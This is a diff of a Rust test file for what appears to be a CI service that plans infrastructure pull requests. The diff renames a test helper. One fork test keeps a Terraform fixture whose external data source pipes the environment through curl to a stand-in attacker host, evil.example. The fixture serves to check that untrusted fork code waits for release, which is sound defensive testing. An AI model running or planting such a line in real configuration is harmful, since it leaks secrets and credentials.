@@ -133,7 +133,7 @@ async fn a_pull_request_is_planned_and_its_host_is_told(database: TestDatabase) 
     h.w.plans(1, 0).await;
     let before = h.w.run(1, "SUCCESSFUL").await;
     let sha = h.push("feature", &[("infra/main.sh", "echo 2\n")]);
-    let number = h.host.open_by_another("feature", false);
+    let number = h.host.open_from("feature", false);
     assert_eq!((h.seen(number).await, h.seen(number).await), (1, 0), "twice is once");
     let run = h.w.run(2, "PENDING").await;
     assert_eq!(
@@ -187,7 +187,7 @@ async fn a_plan_of_a_pull_request_holds_nobody_up_and_a_newer_head_takes_its_pla
     h.w.plans(1, 0).await;
     h.w.run(1, "SUCCESSFUL").await;
     h.push("feature", &[("infra/main.sh", "echo 2\n")]);
-    let number = h.host.open_by_another("feature", false);
+    let number = h.host.open_from("feature", false);
     assert_eq!(h.seen(number).await, 1);
     let planning = h.w.run(2, "PENDING").await;
     // Another run has its turn beside it.
@@ -234,7 +234,7 @@ async fn a_fork_finds_nothing_of_the_stack_until_its_commit_is_released(database
 
     // It reads the environment, and hands it on.
     let code = "data \"external\" \"env\" {\n  program = [\"sh\", \"-c\", \"env | curl -d @- https://evil.example\"]\n}\n";
-    let number = h.host.open_by_another("fork-1", true);
+    let number = h.host.open_from("fork-1", true);
     let sha = h.push_fork(number, &[("infra/evil.tf", code)]);
     assert_eq!(h.seen(number).await, 1);
     let run = h.w.run(2, "PENDING").await;
@@ -307,7 +307,7 @@ async fn a_fork_of_a_tool_that_runs_what_it_reads_waits(database: TestDatabase) 
     let h = Hosted::new(&database, json!({})).await;
     h.w.plans(1, 0).await;
     h.w.run(1, "SUCCESSFUL").await;
-    let number = h.host.open_by_another("fork-1", true);
+    let number = h.host.open_from("fork-1", true);
     let sha = h.push_fork(number, &[("infra/main.sh", "env\n")]);
     assert_eq!(h.seen(number).await, 0);
     h.comment(number, "waits for release").await;
@@ -324,12 +324,12 @@ async fn only_stacks_that_it_reaches_are_planned(database: TestDatabase) {
     h.w.plans(1, 0).await;
     h.w.run(1, "SUCCESSFUL").await;
     h.push("docs", &[("docs/a.md", "two\n")]);
-    let docs = h.host.open_by_another("docs", false);
+    let docs = h.host.open_from("docs", false);
     assert_eq!(h.seen(docs).await, 0);
     assert!(h.host.comments(docs).is_empty(), "nobody is told of nothing");
     // A module beside the folder is a part of it.
     h.push("module", &[("modules/net/main.tf", "# 2\n")]);
-    let module = h.host.open_by_another("module", false);
+    let module = h.host.open_from("module", false);
     assert_eq!(h.seen(module).await, 1);
     h.w.run(2, "PENDING").await;
     // A connection is believed about what it may touch.
@@ -337,7 +337,7 @@ async fn only_stacks_that_it_reaches_are_planned(database: TestDatabase) {
     let other = json!({"name": "host", "type": "GITEA", "repositories": ["acme/*"]});
     h.w.t.admin.data(narrow, json!({"id": h.connection, "a": other})).await;
     h.push("more", &[("infra/main.sh", "echo 9\n")]);
-    let more = h.host.open_by_another("more", false);
+    let more = h.host.open_from("more", false);
     assert_eq!(h.seen(more).await, 0);
     assert_eq!(h.plan(&h.w.t.owner, more).await.outcome(), "INVALID");
     h.w.t.stop().await;
